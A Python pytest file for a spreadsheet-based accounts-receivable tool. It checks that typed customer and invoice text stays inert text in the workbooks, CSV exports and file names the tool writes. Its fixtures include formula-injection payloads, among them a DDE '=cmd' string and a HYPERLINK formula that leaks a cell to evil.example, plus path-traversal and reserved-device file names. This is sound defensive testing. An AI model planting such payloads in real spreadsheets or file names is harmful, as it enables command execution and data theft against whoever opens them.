"""What people type is text wherever we write it: no cell, csv field or file name of ours ever does anything.

One business whose customers, invoices and notes are all attacks goes through every command that writes; then every
workbook and every table that lies in its folder is opened by other programs' eyes.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from conftest import Workbook
from handmade import book

from ar_sheets.base.file_names import RESERVED, file_stems
from ar_sheets.reports.paper import csv_table
from ar_sheets.reports.papers.files import stem
from ar_sheets.sharing.names import customer_folder_name
from ar_sheets.xlsx.patch import NewSheet, SheetPatch, patch

AS_OF = "2026-11-20"
ATTACKS = (
    "=cmd|'/c evil'!A0", "+evil+1", "-evil+1", "@SUM(evil)", "\tevil=1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Pay\")",
    "＝evil+1", "evil;=1+1", "=evil,=1", '"=evil', "=1+1",
)  # fmt: skip
RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def business() -> str:
    typed = [text.replace("|", "¦").strip() for text in ATTACKS]
    lines = ["Customers", "Customer ID | Name | Profile | Email | Street | City | Contact"]
    lines += [f"C{at} | {text} AS | Business | a{at}@b.example | {text} 1 | {text} | {text}"
              for at, text in enumerate(typed)]  # fmt: skip
    lines += ["", "Invoices", "Invoice no | Customer ID | Invoice date | Due date | Amount | Description | PO / ref"]
    lines += [f"{text}{at} | C{at} | 2026-09-01 | 2026-09-15 | {100 + at}.50 | {text} | {text}"
              for at, text in enumerate(typed)]  # fmt: skip
    return "\n".join(lines)


@pytest.fixture
def attacked(make_workbook: Callable[..., Workbook]) -> Workbook:
    return make_workbook(business(), business_name="=evil()", signatory="@evil", street="+evil")


def test_nothing_that_was_typed_does_anything_in_what_we_write(attacked: Workbook) -> None:
    attacked.run(AS_OF)
    for command, *options in (("report",), ("share", "--all"), ("statement",), ("evidence", "C0"), ("evidence", "C1"),
                              ("invoice", "=cmd¦'/c evil'!A00")):  # fmt: skip
        done = attacked.command(command, *options, "--as-of", AS_OF)
        assert done.exit_code in (0, 1), (command, done.output)
    attacked.run(AS_OF)
    home = attacked.path.parent
    books = [path.read_bytes() for path in home.rglob("*.xlsx")]
    packed = [(name, data) for path in home.rglob("*.zip") for name, data in _members(path)]
    assert len(books) > len(ATTACKS)  # a copy for each, the workbook, its backups, the report
    seen = sum(_checked_book(data) for data in books)
    tables = [data for name, data in packed if name.endswith(".csv")]
    tables += [path.read_bytes() for path in home.rglob("*.csv")]
    assert seen > 200
    assert sum(map(_checked_table, tables)) > 20
    for path in home.rglob("*"):
        assert path.resolve().is_relative_to(home.resolve())
        assert not RESERVED.match(path.name)
        assert not re.search(r'[<>:"|?*\x00-\x1f]|[. ]$', path.name), path.name


def _members(path: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as file:
        for name in file.namelist():
            yield name, file.read(name)


def _checked_book(data: bytes) -> int:
    """How many cells hold an attack as the text it is."""
    seen = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if "evil" in str(cell.value) or str(cell.value).startswith(("=1", "evil;")):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen += 1
            assert all("evil" not in (cell.hyperlink.target or "") for cell in row if cell.hyperlink)
    return seen


def _checked_table(data: bytes) -> int:
    seen = 0
    for separator in ",;\t":  # as Excel splits a table depends on the country it is set to
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=separator):
            for field in row:
                harmless = re.fullmatch(r"[+-]?[\d .,]+\"?", field) is not None
                assert harmless or not field.lstrip(' "').startswith(RUNS), field
                seen += "evil" in field
    return seen


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_looks_like_a_formula_is_text_by_every_writer(text: str) -> None:
    new = patch(
        book('<row r="1"><c r="A1"><v>1</v></c></row>'),
        [SheetPatch("S", [1], {0: [text], 1: [Decimal("12.50")]}, [], 1)],
    )
    new = patch(new, [NewSheet("New", ("=head", text), [(text, 7)])])
    read = openpyxl.load_workbook(io.BytesIO(new))
    for cell in (read["S"]["A1"], read["New"]["B1"], read["New"]["A2"]):
        assert (cell.data_type, cell.value) == ("s", text)
    assert (read["S"]["B1"].data_type, read["S"]["B1"].value) == ("n", 12.5)


def test_a_table_for_others_keeps_its_numbers() -> None:
    made = csv_table(("a",), [(Decimal("-12.50"), -3, date(2026, 1, 2), "+47 22 00 00 00", "-5", "=1", "x;=1")])
    assert made.decode("utf-8-sig").splitlines()[1] == "-12.50,-3,2026-01-02,+47 22 00 00 00,'-5,'=1,x;'=1"


IDS = ["C1", "c1", "CON", "con.txt", "nul ", "LPT¹", "..", ".", "", " ", "a/../../b", "C:\\x", "x.", "x ", "-rf", "~",
       "$HOME", "a\0b", "a\nb", "æøå", "A" * 300, "aux.", "com1.xlsx", "\u202egnp", "e\u0301",
       "\u00e9", "株式会社", "a:b"]  # fmt: skip


def test_names_of_files_are_safe_on_every_disk_and_never_the_same() -> None:
    for names in (
        file_stems(IDS),
        [stem(one) for one in IDS if one != "c1"],
        [customer_folder_name(one) for one in IDS],
    ):
        for name in names:
            assert name == Path(name).name
            assert not RESERVED.match(name)
            assert not re.search(r'[<>:"/\\|?*\x00-\x1f\x7f]|[. ]$|^[~$]', name), name
            assert 0 < len(name.encode()) < 200
    assert len({name.casefold() for name in file_stems(IDS)}) == len(IDS)
